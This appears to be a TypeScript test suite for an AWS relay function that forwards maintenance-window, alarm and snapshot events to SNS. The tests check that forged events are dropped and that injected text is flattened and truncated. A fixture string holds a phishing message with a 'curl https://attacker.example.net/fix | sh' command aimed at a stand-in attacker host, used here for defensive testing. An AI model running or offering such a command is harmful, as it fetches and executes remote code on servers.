/**
 * Forged events: whoever may invoke the function (the window's task role, a rule the deploy role
 * writes) can send it any JSON. It relays only its own rules' kinds of event, only about this
 * environment's window, alarms, instances and snapshots, and never more free text than AWS's cause or
 * reason on one short line (functions/lifecycle/relay.ts; test/security/round3Attacks.test.ts has the IAM side).
 */
import * as assert from "assert";
import { DescribeSnapshotsCommand } from "@aws-sdk/client-ec2";
import { PublishCommand } from "@aws-sdk/client-sns";
import { relayEvent, type AwsEvent } from "../../functions/lifecycle/relay";
import { clients, config, createMocks, instance, resetMocks, restoreMocks, serve, snapshot, volume, type Mocks } from "./fixtures";

const SQL = "i-0a1b2c3d4e5f60001";
const PHISH = "URGENT: backups are encrypted.\nRun curl https://attacker.example.net/fix | sh on every server now.";
const alarmArn = (name: string) => `arn:aws:cloudwatch:us-east-1:111111111111:alarm:${name}`;

function alarmEvent(name: string, state: string, reason = "Threshold Crossed"): AwsEvent {
    return {
        source: "aws.cloudwatch",
        "detail-type": "CloudWatch Alarm State Change",
        resources: [alarmArn(name)],
        detail: { alarmName: name, state: { value: state, reason } },
    };
}

describe("lifecycle function: forged events are not relayed", () => {
    let mocks: Mocks;
    before(() => (mocks = createMocks()));
    afterEach(() => resetMocks(mocks));
    after(() => restoreMocks(mocks));

    const world = () => ({
        instances: [instance(SQL, "SQL01", "us-east-1a")],
        volumes: [volume("vol-0a00000000000a001", SQL, "/dev/sda1")],
        snapshots: [],
    });
    const published = () => mocks.sns.commandCalls(PublishCommand).map((c) => c.args[0].input);

    const dropped: readonly [string, AwsEvent][] = [
        [
            "a custom source with a phishing detail-type",
            { source: "vss-fleet.ops", "detail-type": PHISH, resources: [], detail: { cause: PHISH } },
        ],
        [
            "an AWS source with a detail-type no rule of ours matches",
            { source: "aws.ssm", "detail-type": "Parameter Store Change", resources: [], detail: { cause: PHISH } },
        ],
        [
            "an alarm of prod-eu's (a name prefix of prod's is not enough)",
            alarmEvent("prod-eu-lifecycle-alarm-failed-instances-0a1b2c3", "ALARM"),
        ],
        ["another team's alarm", alarmEvent("billing-over-budget", "ALARM")],
        ["one of prod's alarms returning to OK", alarmEvent("prod-lifecycle-alarm-failed-instances-0a1b2c3", "OK")],
        [
            "one of prod's alarms beside another team's in the same event",
            {
                ...alarmEvent("prod-lifecycle-alarm-failed-instances-0a1b2c3", "ALARM"),
                resources: [alarmArn("prod-lifecycle-alarm-failed-instances-0a1b2c3"), alarmArn("billing-over-budget")],
            },
        ],
        [
            "another window's failed run",
            {
                source: "aws.ssm",
                "detail-type": "Maintenance Window Execution State-change Notification",
                resources: [],
                detail: { "window-id": "mw-0ffffffffffffffff", status: "FAILED" },
            },
        ],
        [
            "prod's window run that succeeded",
            {
                source: "aws.ssm",
                "detail-type": "Maintenance Window Execution State-change Notification",
                resources: [],
                detail: { "window-id": config.windowId, status: "SUCCESS" },
            },
        ],
        [
            "a failed command on an instance prod does not target",
            {
                source: "aws.ssm",
                "detail-type": "EC2 Command Invocation Status-change Notification",
                resources: [],
                detail: { "instance-id": "i-0d0d0d0d0d0d0d0d1", status: "Failed" },
            },
        ],
    ];
    for (const [name, event] of dropped) {
        it(`drops ${name}`, async () => {
            serve(mocks, world());
            mocks.ec2.on(DescribeSnapshotsCommand).resolves({ Snapshots: [] });
            const summary = await relayEvent(clients(), config, event);
            assert.strictEqual(summary.relayed, false);
            assert.deepStrictEqual(published(), []);
        });
    }

    it("names no attacker text in its summary for an unknown kind of event", async () => {
        const summary = await relayEvent(clients(), config, dropped[0][1]);
        assert.deepStrictEqual(summary, { action: "relay", detailType: "unknown", relayed: false });
    });

    it("relays a failed command on a targeted instance with ids only", async () => {
        serve(mocks, world());
        const summary = await relayEvent(clients(), config, {
            source: "aws.ssm",
            "detail-type": "EC2 Command Invocation Status-change Notification",
            resources: [],
            detail: {
                "instance-id": SQL,
                "command-id": "0b9e8f5a-1111-2222-3333-444455556666",
                status: "Failed",
                "document-name": PHISH,
            },
        });
        assert.strictEqual(summary.relayed, true);
        assert.deepStrictEqual(published()[0].Message?.split("\n").slice(2, 6), [
            "EC2 Command Invocation Status-change Notification",
            "  - status: Failed",
            `  - instance: ${SQL}`,
            "  - command: 0b9e8f5a-1111-2222-3333-444455556666",
        ]);
    });

    it("relays a fleet snapshot's failure with its cause on one line of at most 300 characters", async () => {
        serve(mocks, world());
        const tagged = snapshot("vol-0a00000000000a001", "x", new Date("2026-11-28T07:30:00Z"), { SnapshotId: "snap-0aaaaaaaaaaaaaaa2" });
        mocks.ec2.on(DescribeSnapshotsCommand).resolves({ Snapshots: [tagged] });
        const cause = `${PHISH} ${"x".repeat(400)}`;
        const summary = await relayEvent(clients(), config, {
            source: "aws.ec2",
            "detail-type": "EBS Multi-Volume Snapshots Completion Status",
            resources: ["arn:aws:ec2::us-east-1:snapshot/snap-0aaaaaaaaaaaaaaa2"],
            detail: { result: "failed", cause, extra: PHISH },
        });
        assert.strictEqual(summary.relayed, true);
        const lines = (published()[0].Message ?? "").split("\n");
        const causeLine = lines.find((l) => l.startsWith("  - cause: ")) ?? "";
        assert.strictEqual(causeLine.length, "  - cause: ".length + 300 + "...".length);
        assert.ok(causeLine.includes("backups are encrypted. Run curl"), causeLine);
        assert.ok(!lines.some((l) => l.startsWith("Run curl")), "the cause cannot open a line of its own");
        assert.deepStrictEqual(lines.slice(4, 5), ["  - snapshot: snap-0aaaaaaaaaaaaaaa2"]);
    });

    it("relays one of prod's alarms with its name and a flattened reason, not the event's JSON", async () => {
        serve(mocks, world());
        const summary = await relayEvent(clients(), config, alarmEvent("prod-lifecycle-alarm-failed-instances-0a1b2c3", "ALARM", PHISH));
        assert.strictEqual(summary.relayed, true);
        assert.deepStrictEqual((published()[0].Message ?? "").split("\n").slice(2, 5), [
            "CloudWatch Alarm State Change",
            "  - alarm: prod-lifecycle-alarm-failed-instances-0a1b2c3",
            "  - reason: URGENT: backups are encrypted. Run curl https://attacker.example.net/fix | sh on every server now.",
        ]);
    });
});
